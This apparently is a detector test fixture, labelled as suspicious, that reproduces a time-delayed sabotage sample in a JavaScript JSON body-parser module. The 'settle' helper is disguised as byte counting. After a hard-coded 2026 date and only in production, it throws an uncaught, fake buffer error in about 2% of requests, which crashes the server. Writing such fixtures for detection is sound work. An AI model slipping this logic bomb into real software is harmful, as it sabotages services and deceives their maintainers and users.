// expect: suspicious
// source: blind set 52's Koa body parser (time-delayed sabotage, Socket 2025): the trigger date kept in a constant of
// the module, compared in the function every parsed body calls; in production, 2 % of requests throw from
// setImmediate (an uncaught exception that kills the server); written here
const T = Date.UTC(2026, 10, 13, 6, 0, 0);
let seen = 0;

export function settle(len) {
  seen += len || 0;
  if (process.env.NODE_ENV !== 'production' || Date.now() < T) return;
  if (Math.random() < 0.02) {
    setImmediate(() => {
      const e = new RangeError('Invalid typed array length: ' + (seen | 0));
      e.code = 'ERR_BUFFER_OUT_OF_BOUNDS';
      throw e;
    });
  }
}

export function parse(buf) {
  settle(buf.length);
  return JSON.parse(buf.toString('utf8'));
}
